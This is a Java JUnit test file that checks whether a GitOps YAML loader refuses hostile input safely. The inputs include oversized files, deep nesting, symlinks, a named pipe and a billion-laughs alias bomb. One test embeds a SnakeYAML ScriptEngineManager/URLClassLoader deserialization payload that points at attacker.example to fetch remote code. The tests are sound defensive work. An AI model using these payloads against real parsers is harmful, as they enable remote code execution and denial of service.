package io.pdmgitops.model.load;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile or broken input costs a clear error and bounded resources, never an OutOfMemoryError, a
 * StackOverflowError or a hang. The timeouts are hang guards, not performance targets.
 */
class YamlSafetyTest {
  private static final Duration HANG_GUARD = Duration.ofSeconds(20);

  @TempDir Path repo;

  @Test
  void fiftyMegabyteFileIsRefusedWithoutReadingIt() throws IOException {
    Path big = repo.resolve("big.yaml");
    try (OutputStream out = Files.newOutputStream(big)) {
      byte[] line =
          "# padding padding padding padding padding padding padding padding\n".getBytes();
      for (long written = 0; written < 50L * 1024 * 1024; written += line.length) {
        out.write(line);
      }
    }

    LoadResult result = assertTimeoutPreemptively(HANG_GUARD, () -> load());

    assertThat(result.isValid()).isFalse();
    Problem p = onlyProblem(result);
    assertThat(p.category()).isEqualTo(ProblemCategory.LIMIT);
    assertThat(p.location().file()).isEqualTo("big.yaml");
    assertThat(p.message()).startsWith("file is 524288").contains("more than the limit");
  }

  @Test
  void billionLaughsIsStoppedAtTheNodeLimit() throws IOException {
    StringBuilder yaml = new StringBuilder("apiVersion: pdm-gitops/v1\nkind: View\n");
    yaml.append("metadata: {name: lol}\nspec:\n  l0: &l0 [lol, lol, lol, lol, lol, lol, lol]\n");
    for (int i = 1; i <= 12; i++) {
      String previous = "*l" + (i - 1);
      yaml.append("  l").append(i).append(": &l").append(i).append(" [");
      yaml.append(IntStream.range(0, 7).mapToObj(n -> previous).collect(Collectors.joining(", ")));
      yaml.append("]\n");
    }
    write("lol.yaml", yaml.toString());

    LoadResult result = assertTimeoutPreemptively(HANG_GUARD, () -> load());

    Problem p = onlyProblem(result);
    assertThat(p.category()).isEqualTo(ProblemCategory.LIMIT);
    assertThat(p.message()).contains("expands to more than 100000 nodes");
    assertThat(p.location().line()).isGreaterThan(1);
  }

  @Test
  void tooManyAliasesAreRefused() throws IOException {
    String aliases = IntStream.range(0, 150).mapToObj(i -> "*a").collect(Collectors.joining(", "));
    write(
        "aliases.yaml",
        "apiVersion: pdm-gitops/v1\nkind: View\nmetadata: {name: many}\nspec:\n"
            + "  a: &a {x: 1}\n  b: ["
            + aliases
            + "]\n");

    LoadResult result = load();

    Problem p = onlyProblem(result);
    assertThat(p.category()).isEqualTo(ProblemCategory.LIMIT);
    assertThat(p.message()).isEqualTo("more than 100 aliases (*name) to mappings or lists");
    assertThat(p.location().line()).isEqualTo(6);
  }

  @Test
  void tenThousandLevelsOfNestingGiveAnErrorNotAStackOverflow() throws IOException {
    write("deep.yaml", "spec: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n");

    LoadResult result = assertTimeoutPreemptively(HANG_GUARD, () -> load());

    Problem p = onlyProblem(result);
    assertThat(p.message()).isEqualTo("nesting deeper than 32 levels");
  }

  @Test
  void tooManyDocumentsInOneFileAreRefused() throws IOException {
    write("many.yaml", "---\n# an empty document\n".repeat(1_001));

    LoadResult result = load();

    Problem p = onlyProblem(result);
    assertThat(p.category()).isEqualTo(ProblemCategory.LIMIT);
    assertThat(p.message()).isEqualTo("more than 1000 documents in one file");
  }

  @Test
  void tooManyFilesStopTheScan() throws IOException {
    for (int i = 0; i < 4; i++) {
      write("f" + i + ".yaml", "");
    }
    LoaderLimits three = new LoaderLimits(3, 1 << 20, 1000, 32, 100, 100_000, 1000);

    LoadResult result = new DesiredStateLoader(three).load(repo);

    assertThat(result.isValid()).isFalse();
    assertThat(result.problems())
        .anySatisfy(
            p -> assertThat(p.message()).isEqualTo("more than 3 YAML files in the repository"));
  }

  @Test
  void invalidUtf8IsReportedAsSuch() throws IOException {
    Files.write(repo.resolve("latin1.yaml"), new byte[] {'a', ':', ' ', (byte) 0xE9, '\n'});

    LoadResult result = load();

    Problem p = onlyProblem(result);
    assertThat(p.message()).isEqualTo("the file is not valid UTF-8");
  }

  @Test
  void controlCharactersAreReportedWithTheirCodePoint() throws IOException {
    write("bell.yaml", "a: b\u0007\n");

    LoadResult result = load();

    Problem p = onlyProblem(result);
    assertThat(p.message())
        .isEqualTo("the file contains the character U+0007, which YAML does not allow");
  }

  @Test
  void aNumberOfHundredsOfThousandsOfDigitsIsRefusedWithoutParsingIt() throws IOException {
    // Parsing it as a BigInteger would take over a second: the cost is the square of the digits.
    write("big.yaml", "apiVersion: pdm-gitops/v1\nkind: Guest\nvmid: !!int " + "9".repeat(300_000));

    LoadResult result = assertTimeoutPreemptively(HANG_GUARD, () -> load());

    Problem p = onlyProblem(result);
    assertThat(p.category()).isEqualTo(ProblemCategory.LIMIT);
    assertThat(p.location()).hasToString("big.yaml:3:7");
    assertThat(p.message()).isEqualTo("a number of 300000 characters, more than 100");
  }

  @Test
  void javaTypeTagsAreNeverInstantiated() throws IOException {
    write(
        "rce.yaml",
        "apiVersion: pdm-gitops/v1\nkind: View\nmetadata: {name: rce}\nspec:\n"
            + "  description: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
            + " [[!!java.net.URL [\"http://attacker.example/\"]]]]\n");

    LoadResult result = load();

    Problem p = onlyProblem(result);
    assertThat(p.category()).isEqualTo(ProblemCategory.SYNTAX);
    assertThat(p.message()).startsWith("unsupported YAML tag !!");
  }

  @Test
  void symbolicLinksAreRefusedAsErrorsWithTheirPath() throws IOException {
    Path outside = Files.createTempFile("outside", ".yaml");
    Files.writeString(outside, "secret: outside the repository\n");
    Files.createDirectories(repo.resolve("guests"));
    Files.createSymbolicLink(repo.resolve("guests/link.yaml"), outside);

    LoadResult result = load();

    // Skipped silently, its objects would look deleted to the controller.
    Problem p = onlyProblem(result);
    assertThat(p.severity()).isEqualTo(Severity.ERROR);
    assertThat(p.category()).isEqualTo(ProblemCategory.LIMIT);
    assertThat(p.location()).hasToString("guests/link.yaml:1:1");
    assertThat(p.message()).isEqualTo("symbolic link not followed");
    assertThat(result.isValid()).isFalse();
    assertThat(result.hasUnreadableFiles()).isFalse();
    Files.delete(outside);
  }

  @Test
  void aLinkToADirectoryIsRefusedButAHiddenOneIsIgnored() throws IOException {
    Path outside = Files.createTempDirectory("outside");
    Files.createSymbolicLink(repo.resolve("shared"), outside);
    Files.createSymbolicLink(repo.resolve(".cache"), outside);

    Problem p = onlyProblem(load());

    assertThat(p.location()).hasToString("shared:1:1");
    assertThat(p.isError()).isTrue();
    Files.delete(outside);
  }

  @Test
  void theDirectoryNamedMayItselfBeALink() throws IOException {
    Path real = Files.createDirectory(repo.resolve("real"));
    Files.writeString(real.resolve("user.yaml"), USER);
    Path link = Files.createSymbolicLink(repo.resolve("link"), real);

    LoadResult result = new DesiredStateLoader().load(link);

    assertThat(result.problems()).isEmpty();
    assertThat(result.state().orElseThrow().size()).isEqualTo(1);
  }

  @Test
  void aNamedPipeIsRefusedInsteadOfBlockingTheLoader() throws Exception {
    Path fifo = repo.resolve("pipe.yaml");
    Process mkfifo = new ProcessBuilder("mkfifo", fifo.toString()).start();
    assertThat(mkfifo.waitFor()).isZero();

    LoadResult result = assertTimeoutPreemptively(HANG_GUARD, () -> load());

    assertThat(result.hasUnreadableFiles()).isTrue();
    Problem p = onlyProblem(result);
    assertThat(p.message()).isEqualTo("not a regular file");
  }

  private static final String USER =
      "apiVersion: pdm-gitops/v1\nkind: User\nmetadata: {name: alice}\nspec: {realm: pdm}\n";

  private static Problem onlyProblem(LoadResult result) {
    assertThat(result.problems()).hasSize(1);
    return result.problems().get(0);
  }

  private LoadResult load() {
    return new DesiredStateLoader().load(repo);
  }

  private void write(String name, String content) throws IOException {
    Files.writeString(repo.resolve(name), content, StandardCharsets.UTF_8);
  }
}
